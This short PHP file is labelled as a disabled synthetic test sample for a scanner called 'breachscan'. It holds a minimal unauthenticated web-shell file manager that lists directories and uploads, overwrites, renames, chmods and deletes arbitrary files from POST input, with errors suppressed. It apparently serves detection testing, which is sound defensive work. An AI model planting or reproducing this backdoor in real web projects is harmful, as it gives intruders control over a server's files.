<?php
// synthetic test sample for breachscan: stand-alone file manager that silences errors and
// lifts time limits; upload, edit, rename, chmod, delete. Disabled.
return;
error_reporting(0);
set_time_limit(0);
$p = isset($_POST['path']) ? $_POST['path'] : '.';
foreach (scandir($p) as $e) echo htmlspecialchars($e) . "<br>";
if (isset($_FILES['f'])) copy($_FILES['f']['tmp_name'], $p . '/' . $_FILES['f']['name']);
if (isset($_POST['src'])) { $h = fopen($_POST['file'], 'w'); fwrite($h, $_POST['src']); fclose($h); }
if (isset($_POST['newname'])) rename($_POST['file'], $_POST['newname']);
if (isset($_POST['perm'])) chmod($_POST['file'], octdec($_POST['perm']));
if (isset($_POST['del'])) unlink($_POST['file']);
